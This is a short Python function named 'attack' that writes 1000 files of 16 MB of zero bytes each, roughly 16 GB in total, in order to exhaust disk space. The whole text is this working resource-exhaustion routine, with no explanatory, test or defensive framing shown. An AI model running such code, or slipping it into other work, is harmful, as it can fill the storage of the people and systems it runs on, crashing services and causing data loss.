def attack():
    for number in range(1000):
        with open(f"part{number}", "wb") as file:
            for _ in range(16):
                file.write(bytes(1 << 20))
    return "16 GB"
